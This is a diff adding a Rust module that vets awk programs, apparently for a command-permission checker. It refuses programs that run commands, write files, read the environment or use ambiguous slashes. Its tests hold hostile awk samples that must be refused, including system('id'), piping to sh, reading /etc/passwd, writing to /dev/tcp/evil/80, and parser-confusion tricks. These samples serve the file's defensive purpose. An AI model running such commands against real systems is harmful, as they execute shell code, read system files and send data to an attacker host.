@@ -1,0 +1,200 @@
+//! `awk`: programs that print and compute. What runs programs, writes or chooses files, or reads the environment is not in it.
+//!
+//! Readers of awk differ on where a regular expression begins; where they may, the program is refused.
+
+use super::arguments::Arguments;
+use super::uses::Uses;
+
+/// Names that reach out of the program.
+const REACHING: [&str; 14] = [
+    "system", "getline", "close", "fflush", "ENVIRON", "ARGV", "ARGC", "ARGIND", "PROCINFO", "SYMTAB",
+    "FUNCTAB", "include", "load", "nextfile",
+];
+
+/// Words after which an operand begins, though they look like one.
+const BEFORE_OPERAND: [&str; 9] = ["print", "printf", "return", "else", "do", "in", "delete", "exit", "case"];
+
+/// Looks at the program and its files.
+pub fn refine(found: &Arguments<'_>, uses: &mut Uses) {
+    let Some((program, files)) = found.operands.split_first() else {
+        if !found.has(&["version"]) {
+            uses.refuse("`awk` has no program");
+        }
+        return;
+    };
+    if let Err(why) = check(&program.text) {
+        uses.refuse(format!("the awk program {why}"));
+    }
+    for file in files {
+        // `name=value` among the files is an assignment; it is judged as a path, too, which it never is.
+        uses.value(super::table::Role::Read, file);
+    }
+}
+
+/// Reads a program; the error says what is refused.
+fn check(program: &str) -> Result<(), String> {
+    let chars: Vec<char> = program.chars().collect();
+    let (mut at, mut before, mut printing) = (0, Before::Start, false);
+    while at < chars.len() {
+        let c = chars[at];
+        match c {
+            ' ' | '\t' => at += 1,
+            '\n' | ';' | '{' | '}' => {
+                printing = false;
+                before = Before::Operator;
+                at += 1;
+            }
+            '#' => at += chars[at..].iter().take_while(|c| **c != '\n').count(),
+            '"' => {
+                at = string_end(&chars, at)?;
+                before = Before::Operand;
+            }
+            '/' => match before {
+                Before::Operand => {
+                    at += 1;
+                    before = Before::Operator;
+                }
+                Before::Start | Before::Operator => {
+                    at = expression_end(&chars, at)?;
+                    before = Before::Operand;
+                }
+                Before::Unclear => {
+                    return Err("has a `/` that is a division to some readers and begins a pattern to others; put it in parentheses another way".to_owned());
+                }
+            },
+            '|' if chars.get(at + 1) == Some(&'|') && chars.get(at + 2) != Some(&'&') => {
+                at += 2;
+                before = Before::Operator;
+            }
+            '|' => return Err("runs a program through `|`".to_owned()),
+            '>' if printing => return Err("writes a file with `>`".to_owned()),
+            '@' => return Err("calls or loads what is only known when it runs (`@`)".to_owned()),
+            '\\' => return Err("has a backslash outside of texts and patterns".to_owned()),
+            '\'' | '`' => return Err(format!("has `{c}`, which is nothing in awk")),
+            ')' | ']' => {
+                before = if c == ')' { Before::Unclear } else { Before::Operand };
+                at += 1;
+            }
+            '+' | '-' if chars.get(at + 1) == Some(&c) => {
+                before = Before::Unclear;
+                at += 2;
+            }
+            c if c.is_ascii_alphabetic() || c == '_' => {
+                let word: String =
+                    chars[at..].iter().take_while(|c| c.is_ascii_alphanumeric() || **c == '_').collect();
+                at += word.len();
+                if REACHING.contains(&word.as_str()) {
+                    return Err(format!("uses `{word}`, which reaches out of the program"));
+                }
+                printing |= matches!(word.as_str(), "print" | "printf");
+                before =
+                    if BEFORE_OPERAND.contains(&word.as_str()) { Before::Operator } else { Before::Operand };
+            }
+            c if c.is_ascii_digit() || c == '.' => {
+                at += chars[at..].iter().take_while(|c| c.is_ascii_alphanumeric() || **c == '.').count();
+                before = Before::Operand;
+            }
+            c if c.is_ascii_punctuation() => {
+                before = Before::Operator;
+                at += 1;
+            }
+            c => return Err(format!("has `{c}` outside of texts and patterns")),
+        }
+    }
+    Ok(())
+}
+
+/// What stands before a slash.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Before {
+    Start,
+    Operand,
+    Operator,
+    Unclear,
+}
+
+fn string_end(chars: &[char], start: usize) -> Result<usize, String> {
+    let mut at = start + 1;
+    while let Some(c) = chars.get(at) {
+        match c {
+            '\\' if chars.get(at + 1) == Some(&'\n') => break,
+            '\\' => at += 1,
+            '"' => return Ok(at + 1),
+            '\n' => break,
+            _ => {}
+        }
+        at += 1;
+    }
+    Err("has a text without an end".to_owned())
+}
+
+fn expression_end(chars: &[char], start: usize) -> Result<usize, String> {
+    let (mut at, mut bracket) = (start + 1, false);
+    while let Some(c) = chars.get(at) {
+        match c {
+            '\\' => at += 1,
+            '\n' => break,
+            '"' if bracket => return Err("has quotes inside the brackets of a pattern".to_owned()),
+            '/' if bracket => {
+                return Err(
+                    "has `/` inside the brackets of a pattern, which readers take differently".to_owned()
+                );
+            }
+            '/' => return Ok(at + 1),
+            '[' => bracket = true,
+            ']' => bracket = false,
+            _ => {}
+        }
+        at += 1;
+    }
+    Err("has a pattern without an end".to_owned())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn printing_and_computing_are_known() {
+        for program in [
+            "{print $1}",
+            "NR>1 && $3 > 100 {print $1, $2}",
+            "/foo|bar/ {print; n++} END {print n}",
+            "BEGIN{FS=\",\"} {s+=$2} END{print s/NR}",
+            "{ if ($1 > 5) print $2 }",
+            "length($0) > 80",
+            "!seen[$0]++",
+            "{print $1 \"|\" $2}",
+            "$1 ~ /^a/ || $2 == \"x\"",
+            "{printf \"%s\\n\", $1}",
+            "NR==5,NR==10",
+            "{a[$1]+=$2} END {for (k in a) print k, a[k]}",
+        ] {
+            assert_eq!(check(program), Ok(()), "{program}");
+        }
+    }
+
+    #[test]
+    fn reaching_out_is_refused() {
+        for program in [
+            "BEGIN{system(\"id\")}",
+            "{print > \"out\"}",
+            "{print >> \"out\"}",
+            "{print | \"sh\"}",
+            "BEGIN{\"id\" | getline}",
+            "BEGIN{while ((getline l < \"/etc/passwd\") > 0) print l}",
+            "BEGIN{print ENVIRON[\"HOME\"]}",
+            "BEGIN{ARGV[1]=\"/etc/passwd\"; ARGC=2}",
+            "@load \"filefuncs\"",
+            "BEGIN{f=\"system\"; @f(\"id\")}",
+            "{if (x) /\"/; system(\"id\") #\"\n}",
+            "{print $1, $2 > \"a\" $1}",
+            "{ printf \"x\" > \"/dev/tcp/evil/80\" }",
+            "BEGIN { print \"x\" |& \"sh\" }",
+            "BEGIN{print(1)>\"x\"}",
+            "/[/]\"/ {system(\"id\")}",
+        ] {
+            assert!(check(program).is_err(), "{program}");
+        }
+    }
+}
